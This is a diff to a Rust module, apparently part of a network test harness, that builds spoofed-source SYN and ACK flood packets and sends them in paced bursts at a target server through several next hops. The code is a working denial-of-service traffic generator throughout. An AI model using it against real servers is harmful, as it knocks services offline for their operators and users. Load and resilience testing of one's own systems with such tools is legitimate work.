@@ -1,4 +1,4 @@
-//! A flood of SYNs with spoofed sources, past the sender's own stack: nobody answers what comes back.
+//! A flood of packets with spoofed sources, past the sender's own stack: nobody answers what comes back.
 
 use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
 use std::sync::Arc;
@@ -18,13 +18,55 @@ use packet_io::namespace::Namespace;
 const SOURCES: u32 = u32::from_be_bytes([198, 18, 0, 0]);
 const SOURCE_BITS: u32 = 17;
 
+/// What a flood consists of.
+#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
+pub enum FloodPacket {
+    /// SYNs, as hosts of today send them, in bursts of a batch.
+    #[default]
+    Syn,
+    /// Acknowledgements in the middle of connections that do not exist. A burst is what is due within a millisecond: larger ones would let
+    /// nodes look up many packets together.
+    Acknowledgement,
+}
+
+impl FloodPacket {
+    /// Packets that are sent together.
+    fn burst(self, packets_per_s: u32) -> usize {
+        match self {
+            Self::Syn => BATCH_FRAMES_MAX,
+            Self::Acknowledgement => (packets_per_s as usize / 1000).clamp(1, BATCH_FRAMES_MAX),
+        }
+    }
+
+    /// A packet with a drawn source.
+    fn frame(self, random: &mut SplitMix64, link: [MacAddress; 2], destination: SocketAddrV4) -> Vec<u8> {
+        match self {
+            Self::Syn => frame(random, link, destination),
+            Self::Acknowledgement => {
+                let drawn = random.between(0, u64::MAX - 1);
+                let (sequence, acknowledgement) = ((drawn >> 16) as u32, (drawn >> 24) as u32);
+                let ack = Tcp { flags: tcp_flags::ACK, sequence, acknowledgement, window: 501, ..Tcp::default() };
+                envelope(link).tcp(&tuple(drawn, destination), ack, b"")
+            }
+        }
+    }
+}
+
+/// The tuple of a packet with a spoofed source.
+fn tuple(drawn: u64, destination: SocketAddrV4) -> Tuple {
+    let source = Ipv4Addr::from(SOURCES | (drawn as u32) >> (32 - SOURCE_BITS));
+    let port = 1024 + (drawn >> 32) as u16 % 60_000;
+    Tuple::new(ip_protocol::TCP, SocketAddr::from((source, port)), destination.into())
+}
+
+fn envelope([source, next_hop]: [MacAddress; 2]) -> Envelope<'static> {
+    Envelope { source, destination: next_hop, ..Envelope::default() }
+}
+
 /// The SYN of a flood with this number, as hosts of today send them.
 #[must_use]
 pub fn frame(random: &mut SplitMix64, link: [MacAddress; 2], destination: SocketAddrV4) -> Vec<u8> {
     let drawn = random.between(0, u64::MAX - 1);
-    let source = Ipv4Addr::from(SOURCES | (drawn as u32) >> (32 - SOURCE_BITS));
-    let port = 1024 + (drawn >> 32) as u16 % 60_000;
-    let from = SocketAddr::from((source, port));
     let syn = Tcp {
         flags: tcp_flags::SYN,
         sequence: (drawn >> 16) as u32,
@@ -35,9 +77,7 @@ pub fn frame(random: &mut SplitMix64, link: [MacAddress; 2], destination: Socket
         timestamps: Some((drawn as u32, 0)),
         ..Tcp::default()
     };
-    let [source, next_hop] = link;
-    let envelope = Envelope { source, destination: next_hop, ..Envelope::default() };
-    envelope.tcp(&Tuple::new(ip_protocol::TCP, from, destination.into()), syn, b"")
+    envelope(link).tcp(&tuple(drawn, destination), syn, b"")
 }
 
 /// Where a flood goes, and how fast.
@@ -45,12 +85,14 @@ pub fn frame(random: &mut SplitMix64, link: [MacAddress; 2], destination: Socket
 pub struct FloodPlan {
     /// The link address that frames come from.
     pub source: MacAddress,
-    /// The link addresses that frames go to, each SYN to all of them: a node is killed, and the flood goes on at the other.
+    /// The link addresses that frames go to, as many packets to each of them: a node is killed, and the flood goes on at the other.
     pub next_hops: Vec<MacAddress>,
     /// The server that is attacked.
     pub destination: SocketAddrV4,
-    /// SYNs a second, to each next hop.
-    pub syns_per_s: u32,
+    /// What it consists of.
+    pub packet: FloodPacket,
+    /// Packets a second, to each next hop.
+    pub packets_per_s: u32,
     /// The RNG seed of the sources.
     pub seed: u64,
 }
@@ -74,12 +116,15 @@ impl Flood {
         let (over, count) = (Arc::clone(&is_over), Arc::clone(&sent));
         let thread = thread::spawn(move || {
             let mut random = SplitMix64::new(plan.seed);
-            let interval = Duration::from_secs(1) * BATCH_FRAMES_MAX as u32 / plan.syns_per_s.max(1);
+            let burst = plan.packet.burst(plan.packets_per_s);
+            let interval = Duration::from_secs(1) * burst as u32 / plan.packets_per_s.max(1);
             let (began, mut due) = (Instant::now(), Duration::ZERO);
             while !over.load(Ordering::Relaxed) {
                 thread::sleep(due.saturating_sub(began.elapsed()));
                 for next_hop in &plan.next_hops {
-                    let sent = send_batch(&mut io, &mut random, [plan.source, *next_hop], plan.destination);
+                    let link = [plan.source, *next_hop];
+                    let frames = (0..burst).map(|_| plan.packet.frame(&mut random, link, plan.destination));
+                    let sent = send_batch(&mut io, frames);
                     count.fetch_add(sent, Ordering::Relaxed);
                 }
                 due += interval;
@@ -90,7 +135,7 @@ impl Flood {
         Ok(Self { is_over, sent, thread: Some(thread) })
     }
 
-    /// The SYNs that were sent.
+    /// The packets that were sent.
     #[must_use]
     pub fn sent(&self) -> u64 {
         self.sent.load(Ordering::Relaxed)
@@ -105,12 +150,8 @@ impl Drop for Flood {
     }
 }
 
-fn send_batch(io: &mut AfPacketIo, random: &mut SplitMix64, link: [MacAddress; 2], destination: SocketAddrV4) -> u64 {
-    let frames = (0..BATCH_FRAMES_MAX).map(|_| {
-        let bytes = frame(random, link, destination);
-        [&[0; TRANSMIT_HEADROOM_BYTES][..], &bytes].concat()
-    });
-    let mut frames: Vec<Vec<u8>> = frames.collect();
+fn send_batch(io: &mut AfPacketIo, frames: impl Iterator<Item = Vec<u8>>) -> u64 {
+    let mut frames: Vec<Vec<u8>> = frames.map(|bytes| [&[0; TRANSMIT_HEADROOM_BYTES][..], &bytes].concat()).collect();
     let mut batch = PacketBatch::new();
     for buffer in &mut frames {
         let length_bytes = buffer.len() - TRANSMIT_HEADROOM_BYTES;
